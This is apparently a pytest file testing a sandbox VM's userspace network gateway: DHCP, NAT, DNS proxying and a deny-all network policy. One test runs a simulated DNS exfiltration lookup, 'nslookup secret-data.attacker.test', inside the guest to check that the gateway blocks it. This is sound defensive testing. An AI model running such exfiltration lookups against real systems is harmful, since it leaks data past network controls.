"""The userspace gateway so far: DHCP leases and ping to the gateway (NAT is issue 4)."""

from __future__ import annotations

import asyncio
import os

import pytest

import capsa
from tests.vm.netkit import DnsServer

pytestmark = pytest.mark.vm


async def _address(agent: capsa.AgentClient) -> str:
    for _ in range(100):
        out = (await agent.exec("ip -4 -o addr show eth0")).stdout.decode().split()
        if "inet" in out:
            return out[out.index("inet") + 1]
        await asyncio.sleep(0.1)
    raise AssertionError("eth0 never got an address")


@pytest.mark.parametrize(
    ("subnet", "lease", "gateway"),
    [
        ("10.0.2.0/24", "10.0.2.15/24", "10.0.2.2"),
        ("192.168.77.0/24", "192.168.77.15/24", "192.168.77.2"),
    ],
)
async def test_dhcp_lease_and_ping_the_gateway(subnet: str, lease: str, gateway: str) -> None:
    mode = capsa.NetworkMode.user_nat().subnet(subnet).build()
    async with await capsa.sandbox().network(mode).build() as sb:
        agent = await sb.agent()
        assert await _address(agent) == lease
        route = (await agent.exec("ip route show default")).stdout.decode().split()
        assert route[:3] == ["default", "via", gateway]
        r = await agent.exec(f"ping -c 3 -W 3 {gateway}", timeout=30)
        assert r.exit_code == 0 and b"3 packets received" in r.stdout


def test_bad_subnets_are_rejected() -> None:
    with pytest.raises(capsa.InvalidConfig, match="invalid subnet"):
        capsa.NetworkMode.user_nat().subnet("10.0.2.1/24")
    with pytest.raises(capsa.InvalidConfig, match="too small"):
        capsa.NetworkMode.user_nat().subnet("10.0.2.0/30")


GUEST_UDP = r"""
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
for word in sys.argv[3:]:
    s.sendto(word.encode(), (sys.argv[1], int(sys.argv[2])))
    data, peer = s.recvfrom(2048)
    print(data.decode(), peer[0], peer[1])
"""


class _Echo(asyncio.DatagramProtocol):
    """Answers each datagram with it reversed, and remembers who asked."""

    def __init__(self) -> None:
        self.seen: list[bytes] = []

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        self.seen.append(data)
        self.transport.sendto(data[::-1], addr)  # type: ignore[attr-defined]


async def test_udp_nat_through_a_host_alias() -> None:
    loop = asyncio.get_running_loop()
    transport, echo = await loop.create_datagram_endpoint(_Echo, local_addr=("127.0.0.1", 0))
    port = transport.get_extra_info("sockname")[1]
    mode = capsa.NetworkMode.user_nat().host_alias("203.0.113.1", "127.0.0.1").build()
    try:
        async with await capsa.sandbox().network(mode).build() as sb:
            agent = await sb.agent()
            await _address(agent)
            await agent.write_file("/tmp/udp.py", GUEST_UDP.encode())
            py = "/usr/lib/capsa/python/bin/python3"
            r = await agent.exec(f"{py} -I /tmp/udp.py 203.0.113.1 {port} hello capsa", timeout=30)
            assert r.exit_code == 0, r.stderr
            assert r.stdout.decode().splitlines() == [
                f"olleh 203.0.113.1 {port}",
                f"aspac 203.0.113.1 {port}",
            ]
            # Without an alias, the host's loopback stays out of reach.
            r = await agent.exec(f"{py} -I /tmp/udp.py 127.0.0.1 {port} x", timeout=30)
            assert r.exit_code != 0
            r = await agent.exec(f"{py} -I /tmp/udp.py 10.0.2.2 {port} x", timeout=30)
            assert r.exit_code != 0
    finally:
        transport.close()
    assert echo.seen == [b"hello", b"capsa"]


def _Dns() -> DnsServer:
    """A test resolver on loopback: example.test -> 203.0.113.7, everything else NXDOMAIN."""
    return DnsServer({"example.test": "203.0.113.7"})


async def test_dns_through_the_gateway_proxy() -> None:
    loop = asyncio.get_running_loop()
    transport, server = await loop.create_datagram_endpoint(_Dns, local_addr=("127.0.0.1", 0))
    port = transport.get_extra_info("sockname")[1]
    mode = capsa.NetworkMode.user_nat().dns_upstream("127.0.0.1", port).build()
    try:
        async with await capsa.sandbox().network(mode).build() as sb:
            agent = await sb.agent()
            await _address(agent)
            resolv = (await agent.exec("cat /etc/resolv.conf")).stdout.decode()
            assert "nameserver 10.0.2.2" in resolv
            r = await agent.exec("nslookup example.test", timeout=30)
            assert r.exit_code == 0 and "203.0.113.7" in r.stdout.decode()
            r = await agent.exec("nslookup missing.test", timeout=30)
            assert "203.0.113.7" not in r.stdout.decode()
    finally:
        transport.close()
    assert "example.test" in server.asked and "missing.test" in server.asked


async def test_policy_pins_domains_and_blocks_dns_exfiltration() -> None:
    loop = asyncio.get_running_loop()
    dns_t, resolver = await loop.create_datagram_endpoint(_Dns, local_addr=("127.0.0.1", 0))
    echo_t, echo = await loop.create_datagram_endpoint(_Echo, local_addr=("127.0.0.1", 0))
    dns_port = dns_t.get_extra_info("sockname")[1]
    port = echo_t.get_extra_info("sockname")[1]
    # A domain rule admits UDP only when it names it (and the port).
    policy = (
        capsa.NetworkPolicy.deny_all()
        .allow_dns()
        .allow_domain("example.test", protocol=capsa.IpProtocol.UDP, ports=(port,))
    )
    mode = (
        capsa.NetworkMode.user_nat()
        .dns_upstream("127.0.0.1", dns_port)
        .host_alias("203.0.113.7", "127.0.0.1")
        .policy(policy)
        .build()
    )
    py = "/usr/lib/capsa/python/bin/python3 -I /tmp/udp.py"
    try:
        async with await capsa.sandbox().network(mode).build() as sb:
            agent = await sb.agent()
            await _address(agent)
            await agent.write_file("/tmp/udp.py", GUEST_UDP.encode())
            # Not resolved through the gateway yet: the address is not example.test's.
            assert (await agent.exec(f"{py} 203.0.113.7 {port} early", timeout=30)).exit_code != 0
            r = await agent.exec("nslookup example.test", timeout=30)
            assert "203.0.113.7" in r.stdout.decode()
            r = await agent.exec(f"{py} 203.0.113.7 {port} pinned", timeout=30)
            assert r.exit_code == 0 and r.stdout.decode().startswith("dennip ")
            # A name the policy denies is refused at the gateway and never leaves.
            await agent.exec("nslookup secret-data.attacker.test", timeout=30)
    finally:
        dns_t.close()
        echo_t.close()
    assert echo.seen == [b"pinned"]
    assert "example.test" in resolver.asked
    assert not any("attacker" in name for name in resolver.asked)


_TCP_FETCH = r"""
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=30)
data = b""
while chunk := s.recv(1 << 20):
    data += chunk
open("/tmp/got", "wb").write(data)
"""


async def test_datagram_switch_ports_carry_dhcp_and_tcp(monkeypatch: pytest.MonkeyPatch) -> None:
    """The unixgram transport vfkit uses, exercised with QEMU's -netdev dgram."""
    monkeypatch.setenv("CAPSA_NET_TRANSPORT", "dgram")
    payload = os.urandom(3 << 20)

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(payload)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    mode = capsa.NetworkMode.user_nat().host_alias("203.0.113.1", "127.0.0.1").build()
    async with server, await capsa.sandbox().network(mode).build() as sb:
        assert any(a.startswith("dgram,") for a in sb.vm.backend_vm.argv)  # type: ignore[attr-defined]
        agent = await sb.agent()
        await _address(agent)
        await agent.write_file("/tmp/fetch.py", _TCP_FETCH.encode())
        py = "/usr/lib/capsa/python/bin/python3 -I"
        r = await agent.exec(f"{py} /tmp/fetch.py 203.0.113.1 {port}", timeout=120)
        assert r.exit_code == 0, r.stderr
        assert await agent.read_file("/tmp/got") == payload
